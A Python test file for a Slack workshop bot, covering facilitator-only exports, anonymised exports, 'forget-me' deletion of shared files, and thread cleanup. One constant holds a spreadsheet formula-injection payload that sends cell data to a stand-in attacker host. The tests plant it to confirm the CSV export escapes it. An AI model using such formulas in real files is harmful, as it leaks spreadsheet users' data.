"""What p2p shares in Slack, and what forgetting removes: exports for facilitators only,
without names when quotes are anonymous, safe in a spreadsheet; forget-me reaching the
files already shared; one current picture in the thread."""

from __future__ import annotations

import csv
import io
import json

from bot.sandbox.records import UploadedFile
from tests.scenarios.conftest import Harness
from tests.scenarios.test_summary import document, import_into

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the real numbers")'


def our_document(harness: Harness, *, named: bool = False) -> str:
    """The imported workshop of test_summary, with @priya as its Product Owner, a formula
    for an answer, and an answer @priya gave on Management's behalf."""
    data = json.loads(document(harness))
    data["workshop"]["details"] = {"named": named}
    product, management = data["participants"][0], data["participants"][1]
    product["user_id"] = harness["priya"]
    product["answers"][0]["raw_text"] = FORMULA
    management["answers"][0]["answered_by"] = harness["priya"]
    management["answers"][0]["raw_text"] = "Approved by the board, said Priya for Mark"
    return json.dumps(data)


def shared(harness: Harness) -> dict[str, UploadedFile]:
    return {f.name: f for f in harness.slack.files}


async def summary_with_exports(harness: Harness, *, named: bool = False) -> None:
    await import_into(harness, our_document(harness, named=named))
    await harness.command("fran", "summary")
    await harness.command("fran", "export")
    await harness.slack.wait_for(lambda: "answers.csv" in shared(harness), timeout=30)
    await harness.slack.settle()


async def test_only_facilitators_may_export(harness: Harness) -> None:
    await import_into(harness, our_document(harness))
    await harness.command("fran", "summary")
    await harness.slack.settle()
    await harness.command("priya", "export")
    await harness.slack.settle()
    refusal = harness.ephemeral_texts("priya")[-1]
    assert "Only the facilitator" in refusal
    assert "export" in refusal
    assert [f.name for f in harness.slack.files] == ["path.png"], "nothing shared"
    assert len(harness.channel_texts()) == 1, "the refusal is not posted in the channel"


async def test_an_anonymous_export_names_nobody(harness: Harness) -> None:
    await summary_with_exports(harness)
    files = shared(harness)
    people = {harness[name] for name in ("fran", "priya")} | {"UMAN0000", "UENG0000"}
    for name in ("answers.csv", "workshop.json", "summary.md"):
        text = files[name].content.decode()
        assert not any(person in text for person in people), name
    exported = json.loads(files["workshop.json"].content)
    assert exported["workshop"]["facilitator_id"] == "facilitator"
    users = [p["user_id"] for p in exported["participants"]]
    assert users == [f"participant-{n}" for n in range(1, len(users) + 1)]
    rows = list(csv.DictReader(io.StringIO(files["answers.csv"].content.decode())))
    assert {row["answered_by"] for row in rows} <= {"", "participant-1"}, "aliases, no ids"


async def test_a_named_workshop_exports_ids_as_before(harness: Harness) -> None:
    await summary_with_exports(harness, named=True)
    exported = json.loads(shared(harness)["workshop.json"].content)
    assert exported["participants"][0]["user_id"] == harness["priya"]
    assert exported["workshop"]["facilitator_id"] == harness["fran"]


async def test_a_formula_in_an_answer_is_text_in_the_spreadsheet(harness: Harness) -> None:
    await summary_with_exports(harness)
    rows = list(csv.DictReader(io.StringIO(shared(harness)["answers.csv"].content.decode())))
    (cell,) = [row["raw_text"] for row in rows if "HYPERLINK" in row["raw_text"]]
    assert cell == "'" + FORMULA, "a leading apostrophe: shown, never run"
    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())


async def test_forget_me_replaces_the_shared_files_without_my_answers(harness: Harness) -> None:
    await summary_with_exports(harness)
    before = shared(harness)
    assert b"as product 0 saw it" in before["answers.csv"].content
    assert b"said Priya for Mark" in before["answers.csv"].content
    await harness.command("priya", "forget-me")
    confirmation = harness.ephemeral_texts("priya")[-1]
    assert "on a colleague's behalf" in confirmation
    assert "files shared" in confirmation
    await harness.slack.click(harness["priya"], "confirm_forget")
    await harness.slack.wait_for(
        lambda: (
            shared(harness).get("answers.csv", before["answers.csv"]).id != before["answers.csv"].id
        ),
        timeout=30,
    )
    await harness.slack.settle()
    after = shared(harness)
    assert sorted(after) == ["answers.csv", "path.png", "summary.md", "workshop.json"]
    assert not {f.id for f in after.values()} & {f.id for f in before.values()}, "all replaced"
    for name in ("answers.csv", "workshop.json", "summary.md"):
        text = after[name].content.decode()
        assert "as product 0 saw it" not in text, name
        assert "said Priya for Mark" not in text, f"{name}: what she said for Mark is gone too"
    assert b"as management 0 saw it" in after["answers.csv"].content, "the others' answers stay"
    (parent,) = harness.slack.channel_messages(harness.channel)
    thread = [harness.slack.render(m) for m in harness.slack.thread(harness.channel, parent.ts)]
    assert not any("as product 0 saw it" in message for message in thread)
    assert not any("[file deleted]" in message for message in thread), "nothing left behind"


async def test_the_thread_holds_one_current_picture(harness: Harness) -> None:
    await import_into(harness, our_document(harness))
    await harness.command("fran", "summary")
    await harness.slack.wait_for(lambda: harness.slack.files, timeout=30)
    (first,) = harness.slack.files
    await harness.command("priya", "forget-me")
    await harness.slack.click(harness["priya"], "confirm_forget")
    await harness.slack.wait_for(
        lambda: [f.id for f in harness.slack.files] not in ([], [first.id]), timeout=30
    )
    await harness.slack.settle()
    (picture,) = harness.slack.files
    assert picture.name == "path.png"
    assert picture.id != first.id, "the summary changed, and so did its picture"
    assert picture.content != first.content
    (parent,) = harness.slack.channel_messages(harness.channel)
    in_thread = [f["id"] for m in harness.slack.thread(harness.channel, parent.ts) for f in m.files]
    assert in_thread == [picture.id], "the old upload is gone from the thread"
